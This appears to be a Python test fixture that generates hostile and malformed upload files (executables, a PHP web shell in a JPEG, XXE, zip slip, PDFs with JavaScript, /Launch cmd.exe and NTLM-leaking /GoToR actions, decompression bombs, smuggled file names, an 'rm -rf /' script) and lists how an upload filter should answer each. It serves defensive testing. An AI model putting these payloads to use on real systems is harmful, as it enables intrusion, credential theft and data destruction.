"""Hostile, broken and merely awkward files, each made here, and what entry control answers to it.

`FILES` is the whole list; tests/core/documents/test_hostile_files.py tries each, and scripts/hostile_files.py
writes server_docs/hostile-files.md from it.
"""

import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

from PIL import Image, PngImagePlugin
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

#: What the table says of a file that came in: as what it is kept.
KEPT_PDF, KEPT_PICTURE = "application/pdf", "image/jpeg"


@dataclass(frozen=True)
class Hostile:
    """`answer` is the code of the refusal, or the kind as which it is kept; `name` what the sender calls it."""

    title: str
    make: Callable[[], bytes]
    answer: str
    name: str = "berkas.pdf"
    kept_name: str = ""
    gone: bytes = b""  # what the sender hid in it and must not be in what is kept


def _saved(picture: Image.Image, kind: str, **options) -> bytes:
    out = io.BytesIO()
    picture.save(out, kind, **options)
    return out.getvalue()


def _picture(kind: str = "JPEG", size=(40, 30), mode="RGB", **options) -> bytes:
    return _saved(Image.new(mode, size), kind, **options)


def _pdf(*objects: bytes, catalog: bytes = b"", page: bytes = b"/MediaBox [0 0 595 842]", tail: bytes = b"") -> bytes:
    """A one-page PDF written by hand; further objects begin with number 4, the page names the first as its content."""
    content = b" /Contents 4 0 R" if objects and objects[0].startswith(b"stream:") else b""
    body = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R " + page + content + b" >>",
        *[o.removeprefix(b"stream:") for o in objects],
    ]
    out, places = b"%PDF-1.7\n", []
    for number, value in enumerate(body, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, value)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(body) + 1
    trailer = b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, len(out))
    return out + b"xref\n0 %d\n0000000000 65535 f \n" % size + table + trailer + tail


def _stream(data: bytes, entries: bytes) -> bytes:
    return b"stream:<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), entries, data)


def _written(act: Callable[[PdfWriter], object], pages: int = 1) -> bytes:
    writer = PdfWriter()
    for _page in range(pages):
        writer.add_blank_page(width=595, height=842)
    act(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _script_on_opening(writer: PdfWriter) -> None:
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
    )
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)


def _script_added_later() -> bytes:
    writer = PdfWriter(io.BytesIO(_pdf()), incremental=True)
    _script_on_opening(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@cache
def _deflated_zeros(size: int) -> bytes:
    packer, zeros = zlib.compressobj(9), bytes(1024 * 1024)
    return b"".join(packer.compress(zeros) for _part in range(size // len(zeros))) + packer.flush()


def _packed_objects(unpacked: bytes) -> bytes:
    """A PDF whose second object stands in an object stream that holds this text, packed."""
    packed = zlib.compress(unpacked, 9)
    out = b"%PDF-1.7\n"
    places = {1: len(out)}
    out += b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    places[3] = len(out)
    out += b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>\nendobj\n"
    places[4] = len(out)
    out += b"4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
    out += packed + b"\nendstream\nendobj\n"
    places[5] = len(out)
    rows = [
        struct.pack(">BIH", 0, 0, 65535),
        struct.pack(">BIH", 1, places[1], 0),
        struct.pack(">BIH", 2, 4, 0),
        struct.pack(">BIH", 1, places[3], 0),
        struct.pack(">BIH", 1, places[4], 0),
        struct.pack(">BIH", 1, places[5], 0),
    ]
    table = zlib.compress(b"".join(rows))
    out += b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\nstream\n" % len(
        table
    )
    return out + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % places[5]


_PAGES = b"2 0 << /Type /Pages /Kids [3 0 R] /Count 1 >>"


def _many_objects() -> bytes:
    return _pdf(*[b"null"] * 100_100)


def _page_tree_loop() -> bytes:
    return _pdf().replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]")


def _deep_lists() -> bytes:
    return _pdf(b"[" * 5000 + b"]" * 5000)


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(width: int, height: int, *more: bytes, data: bytes = b"") -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + b"".join(more)
        + _chunk(b"IDAT", data or zlib.compress(b""))
        + _chunk(b"IEND", b"")
    )


def _png_text_bomb() -> bytes:
    return _png(1, 1, _chunk(b"zTXt", b"x\0\0" + _deflated_zeros(32 << 20)), data=zlib.compress(b"\0" * 4))


def _moving(kind: str) -> bytes:
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("red", "green", "blue")]
    return _saved(frames[0], kind, save_all=True, append_images=frames[1:], duration=50)


def _exif(comment: str) -> Image.Exif:
    exif = Image.Exif()
    exif[0x010E] = comment
    exif.get_ifd(0x8825)[1] = "S"
    return exif


def _png_info() -> PngImagePlugin.PngInfo:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "<script>alert(1)</script>")
    return info


def _zip(name: str = "a.txt", content: bytes = b"isi") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return out.getvalue()


def _pdf_and_zip() -> bytes:
    out = io.BytesIO(_pdf())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("jahat.exe", b"MZ")
    return out.getvalue()


def _tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("a.txt"))
    return out.getvalue()


_JPEG_IN_PDF = b"/Type /XObject /Subtype /Image /ColorSpace /DeviceRGB /BitsPerComponent 8 "

FILES = [
    # --- no document at all
    Hostile("Berkas kosong (0 byte)", lambda: b"", "file.empty"),
    Hostile("Satu byte", lambda: b"x", "file.wrong_type"),
    Hostile("5.000 byte nol", lambda: bytes(5000), "file.wrong_type"),
    Hostile("Teks biasa bernama .pdf", lambda: b"Ini bukan PDF", "file.wrong_type"),
    Hostile("Program Windows (EXE) bernama .pdf", lambda: b"MZ\x90\0" + bytes(400), "file.program"),
    Hostile("Program Linux (ELF) bernama .jpg", lambda: b"\x7fELF" + bytes(400), "file.program", "foto.jpg"),
    Hostile("Program macOS (Mach-O)", lambda: b"\xcf\xfa\xed\xfe" + bytes(400), "file.program"),
    Hostile("Skrip shell bernama .jpg", lambda: b"#!/bin/sh\nrm -rf /\n", "file.program", "foto.jpg"),
    Hostile("HTML dengan skrip bernama .pdf", lambda: b"<!doctype html><script>1</script>", "file.web_page"),
    Hostile("HTML di depan PDF", lambda: b"<html>" + _pdf(), "file.web_page"),
    Hostile("SVG dengan skrip bernama .png", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>', "file.web_page", "a.png"),
    Hostile("XML dengan entitas luar (XXE)", lambda: b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', "file.web_page"),
    # --- archives and other kinds of files
    Hostile("Arsip ZIP", _zip, "file.archive", "berkas.zip"),
    Hostile("Bom ZIP (20 MB nol)", lambda: _zip(content=bytes(20_000_000)), "file.archive"),
    Hostile("ZIP dengan nama keluar folder (zip slip)", lambda: _zip("../../etc/cron.d/x"), "file.archive"),
    Hostile("Arsip RAR", lambda: b"Rar!\x1a\x07\x01\x00" + bytes(100), "file.archive"),
    Hostile("Arsip 7z", lambda: b"7z\xbc\xaf\x27\x1c" + bytes(100), "file.archive"),
    Hostile("Arsip TAR", _tar, "file.archive"),
    Hostile("Berkas gzip", lambda: b"\x1f\x8b\x08" + bytes(100), "file.archive"),
    Hostile("Dokumen Word (DOCX)", lambda: _zip("[Content_Types].xml"), "file.office", "surat.docx"),
    Hostile("Dokumen Word lama dengan makro (OLE)", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "file.office", "surat.doc"),
    Hostile("RTF", lambda: b"{\\rtf1 {\\object}}", "file.office", "surat.rtf"),
    Hostile("Foto HEIC dari iPhone", lambda: b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(300), "file.heic", "IMG_0001.HEIC"),
    Hostile("Gambar AVIF", lambda: b"\0\0\0\x18ftypavif\0\0\0\0" + bytes(300), "file.heic", "a.avif"),
    Hostile("Video MP4 bernama .jpg", lambda: b"\0\0\0\x18ftypisom\0\0\0\0" + bytes(300), "file.video", "foto.jpg"),
    Hostile("Gambar TIFF", lambda: _picture("TIFF"), "file.tiff", "pindai.tif"),
    Hostile("Gambar GIF", lambda: _picture("GIF"), "file.wrong_type", "a.gif"),
    Hostile("Gambar BMP", lambda: _picture("BMP"), "file.wrong_type", "a.bmp"),
    Hostile("PostScript (EPS)", lambda: b"%!PS-Adobe-3.0 EPSF\n(a) run", "file.wrong_type", "a.eps"),
    # --- broken
    Hostile("PDF terpotong", lambda: _written(lambda w: None, pages=3)[:120], "file.broken_pdf"),
    Hostile("PDF hanya kepalanya", lambda: b"%PDF-1.7\n" + b"x" * 300, "file.broken_pdf"),
    Hostile("PDF tanpa halaman", lambda: _written(lambda w: None, pages=0), "file.broken_pdf"),
    Hostile("JPEG terpotong", lambda: _picture(size=(900, 900))[:2000], "file.broken_picture", "foto.jpg"),
    Hostile("PNG terpotong", lambda: _picture("PNG", size=(900, 900))[:60], "file.broken_picture", "foto.png"),
    Hostile("WEBP terpotong", lambda: _picture("WEBP", size=(900, 900))[:60], "file.broken_picture", "foto.webp"),
    Hostile("PHP di balik kepala JPEG", lambda: b"\xff\xd8\xff\xe0<?php system($_GET[1]); ?>", "file.broken_picture", "foto.jpg.php"),
    # --- PDF that acts
    Hostile("PDF dengan kata sandi", lambda: _written(lambda w: w.encrypt("rahasia")), "file.encrypted_pdf"),
    Hostile("PDF dengan JavaScript saat dibuka", lambda: _written(_script_on_opening), "file.active_pdf"),
    Hostile("PDF: JavaScript ditambahkan kemudian (incremental update)", _script_added_later, "file.active_pdf"),
    Hostile("PDF: nama JavaScript ditulis heksadesimal", lambda: _pdf(b"<< /S /J#61vaScript /J#53 (1) >>", catalog=b"/OpenAction 4 0 R"), "file.active_pdf"),
    Hostile("PDF: JavaScript di dalam object stream", lambda: _packed_objects(_PAGES[:-3] + b" /AA << /O << /S /JavaScript /JS (1) >> >> >>"), "file.active_pdf"),
    Hostile("PDF yang menjalankan program (/Launch)", lambda: _pdf(catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "file.active_pdf"),
    Hostile("PDF: aksi halaman (/AA) membuka alamat web", lambda: _pdf(page=b"/MediaBox [0 0 595 842] /AA << /O << /S /URI /URI (https://contoh.id) >> >>"), "file.active_pdf"),
    Hostile("PDF: saat dibuka pergi ke alamat web", lambda: _pdf(catalog=b"/OpenAction << /S /URI /URI (https://contoh.id) >>"), "file.active_pdf"),
    Hostile("PDF: /GoToR ke berkas di jaringan (pencurian hash NTLM)", lambda: _pdf(b"<< /S /GoToR /F (\\\\\\\\10.0.0.1\\\\a) /D [0 /Fit] >>"), "file.active_pdf"),
    Hostile("PDF: /GoToE ke PDF di dalam PDF", lambda: _pdf(b"<< /S /GoToE /T << /R /C /N (a) >> >>"), "file.active_pdf"),
    Hostile("PDF: tautan javascript:", lambda: _pdf(b"<< /Subtype /Link /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>"), "file.active_pdf"),
    Hostile("PDF: tautan file://", lambda: _pdf(b"<< /Subtype /Link /A << /S /URI /URI (file:///etc/passwd) >> >>"), "file.active_pdf"),
    Hostile("PDF: formulir yang mengirim isinya (/SubmitForm)", lambda: _pdf(b"<< /S /SubmitForm /F (https://contoh.id) >>"), "file.active_pdf"),
    Hostile("PDF: formulir XFA", lambda: _pdf(catalog=b"/AcroForm << /Fields [] /XFA (x) >>"), "file.active_pdf"),
    Hostile("PDF dengan lampiran EXE", lambda: _written(lambda w: w.add_attachment("a.exe", b"MZ")), "file.active_pdf"),
    Hostile("PDF di dalam PDF", lambda: _written(lambda w: w.add_attachment("dalam.pdf", _pdf())), "file.active_pdf"),
    Hostile("PDF: film (/RichMedia)", lambda: _pdf(b"<< /Type /Annot /Subtype /RichMedia >>"), "file.active_pdf"),
    Hostile("PDF: 5.000 daftar bersarang", _deep_lists, "file.broken_pdf"),
    Hostile("PDF yang juga arsip ZIP (poliglot)", _pdf_and_zip, "file.disguised"),
    # --- PDF that fills the memory
    Hostile("PDF 201 halaman", lambda: _written(lambda w: None, pages=201), "file.too_many_pages"),
    Hostile("PDF: bom dekompresi, isi halaman 100 MB dari 100 KB", lambda: _pdf(_stream(_deflated_zeros(100 << 20), b"/Filter /FlateDecode")), "file.pdf_bomb"),
    Hostile("PDF: bom bertingkat (Flate di dalam Flate)", lambda: _pdf(_stream(zlib.compress(_deflated_zeros(100 << 20), 9), b"/Filter [/FlateDecode /FlateDecode]")), "file.pdf_bomb"),
    Hostile("PDF: bom RunLength", lambda: _pdf(_stream(b"\x81\0" * 700_000 + b"\x80", b"/Filter /RunLengthDecode")), "file.pdf_bomb"),
    Hostile("PDF: bom object stream 100 MB", lambda: _packed_objects(_PAGES + b" " * (100 << 20)), "file.pdf_bomb"),
    Hostile("PDF: gambar yang mengaku 60.000 × 60.000 titik", lambda: _pdf(_stream(_picture(), _JPEG_IN_PDF + b"/Width 60000 /Height 60000 /Filter /DCTDecode")), "file.pdf_bomb"),
    Hostile("PDF: gambar kecil dengan data 100 MB", lambda: _pdf(_stream(_deflated_zeros(100 << 20), _JPEG_IN_PDF + b"/Width 10 /Height 10 /Filter /FlateDecode")), "file.pdf_bomb"),
    Hostile("PDF: lebih dari 100.000 objek", _many_objects, "file.pdf_bomb"),
    Hostile("PDF: halaman 1 km × 1 km", lambda: _pdf(page=b"/MediaBox [0 0 2834645 2834645]"), "file.huge_page"),
    Hostile("PDF: halaman membesar lewat /UserUnit", lambda: _pdf(page=b"/MediaBox [0 0 595 842] /UserUnit 75000"), "file.huge_page"),
    Hostile("PDF: halaman tanpa luas", lambda: _pdf(page=b"/MediaBox [0 0 0 0]"), "file.broken_pdf"),
    Hostile("PDF: daftar halaman yang melingkar", _page_tree_loop, "file.broken_pdf"),
    # --- pictures that fill the memory
    Hostile("PNG 50.000 × 50.000 titik dalam 60 byte", lambda: _png(50_000, 50_000), "file.pixel_flood", "foto.png"),
    Hostile("PNG 10.000 × 10.000 titik satu warna", lambda: _picture("PNG", size=(10_000, 10_000), mode="1"), "file.pixel_flood", "foto.png"),
    Hostile("PNG dengan teks termampatkan 32 MB", _png_text_bomb, "file.broken_picture", "foto.png"),
    # --- kept, but clean
    Hostile("JPEG dengan ZIP di belakangnya (poliglot)", lambda: _picture() + _zip(), KEPT_PICTURE, "foto.jpg", "foto.jpg", b"PK\x03\x04"),
    Hostile("JPEG dengan PHP dalam komentar", lambda: _picture(comment=b"<?php system($_GET[1]); ?>"), KEPT_PICTURE, "foto.php.jpg", "foto.php.jpg", b"<?php"),
    Hostile("JPEG dengan posisi GPS dan nama (EXIF)", lambda: _picture(exif=_exif("rumah Siti")), KEPT_PICTURE, "foto.jpg", "foto.jpg", b"rumah Siti"),
    Hostile("JPEG dengan profil warna rusak (ICC)", lambda: _picture(icc_profile=b"jahat" * 100), KEPT_PICTURE, "foto.jpg", "foto.jpg", b"jahat"),
    Hostile("JPEG CMYK dari percetakan", lambda: _picture(mode="CMYK"), KEPT_PICTURE, "foto.jpg", "foto.jpg"),
    Hostile("PNG dengan skrip dalam metadata", lambda: _picture("PNG", pnginfo=_png_info()), KEPT_PICTURE, "foto.png", "foto.jpg", b"<script>"),
    Hostile("PNG bergerak (APNG)", lambda: _moving("PNG"), KEPT_PICTURE, "foto.png", "foto.jpg"),
    Hostile("WEBP bergerak", lambda: _moving("WEBP"), KEPT_PICTURE, "foto.webp", "foto.jpg"),
    Hostile("JPEG bernama .html", _picture, KEPT_PICTURE, "halaman.html", "halaman.jpg"),
    Hostile("PDF bernama .exe", _pdf, KEPT_PDF, "surat.exe", "surat.pdf"),
    Hostile("PDF dengan skrip HTML sebagai komentar", lambda: _pdf(tail=b"%<script>alert(1)</script>\n"), KEPT_PDF, "a.html", "a.pdf"),
    Hostile("PDF dengan tautan web biasa", lambda: _pdf(b"<< /Subtype /Link /A << /S /URI /URI (https://bnpb.go.id) >> >>"), KEPT_PDF, "a.pdf", "a.pdf"),
    # --- names
    Hostile("Nama: keluar folder", _picture, KEPT_PICTURE, "../../etc/passwd", "passwd.jpg"),
    Hostile("Nama: jalur Windows", _picture, KEPT_PICTURE, "C:\\Users\\siti\\ktp.png", "ktp.jpg"),
    Hostile("Nama: dibaca terbalik (bidi)", _picture, KEPT_PICTURE, "foto\u202egpj.exe", "fotogpj.jpg"),
    Hostile("Nama: byte nol dan baris baru", _picture, KEPT_PICTURE, "a\x00b\nc.jpg", "ab c.jpg"),
    Hostile("Nama: HTML", _picture, KEPT_PICTURE, '<img src=x onerror="1">.jpg', "img src=x onerror=1.jpg"),
    Hostile("Nama: kepala HTTP disisipkan", _picture, KEPT_PICTURE, "a.jpg\r\nSet-Cookie: x=1", "a.jpg Set-Cookie x=1.jpg"),
    Hostile("Nama: perangkat Windows", _picture, KEPT_PICTURE, "CON.jpg", "dokumen CON.jpg"),
    Hostile("Nama: 10.000 huruf", _picture, KEPT_PICTURE, "x" * 10_000 + ".jpg", "x" * 100 + ".jpg"),
    Hostile("Nama: 100 emoji (400 byte)", _picture, KEPT_PICTURE, "🌊" * 100 + ".jpg", "🌊" * 50 + ".jpg"),
    Hostile("Nama: hanya titik", _picture, KEPT_PICTURE, "...", "dokumen.jpg"),
    Hostile("Nama: kosong", _picture, KEPT_PICTURE, "", "dokumen.jpg"),
]  # fmt: skip


def table() -> str:
    """server_docs/hostile-files.md: every file of the list, asked now."""
    from core.common.exceptions import DomainError
    from core.documents.intake import inspect_upload

    rows = []
    for number, file in enumerate(FILES, start=1):
        try:
            taken = inspect_upload(io.BytesIO(file.make()), file_name=file.name)
            outcome = f"diterima sebagai {taken.content_type}"
            told = f"disimpan dengan nama `{_short(taken.file_name)}`" + (
                ", ditulis ulang sebagai JPEG bersih" if taken.content_type == KEPT_PICTURE else ", byte demi byte"
            )
        except DomainError as error:
            outcome, told = f"ditolak (`{error.code}`)", error.message
        rows.append(f"| {number} | {file.title} | {outcome} | {told} |")
    refused = sum("ditolak" in row.split("|")[3] for row in rows)
    return HEAD.format(count=len(rows), refused=refused, kept=len(rows) - refused) + "\n".join(rows) + "\n"


def _short(name: str) -> str:
    return name if len(name) <= 40 else f"{name[:20]}… ({len(name)} huruf)"


HEAD = """# Hostile files and what each got

Written by `scripts/hostile_files.py` from `tests/core/documents/hostile.py`, which makes every file itself;
`tests/core/documents/test_hostile_files.py` tries each one and checks this page. {count} files: {refused} refused with a
sentence, {kept} taken in clean. Names of files are whatever the sender wrote; only the content decides.

| # | file | outcome | what the person reads, or what is kept |
|---|---|---|---|
"""
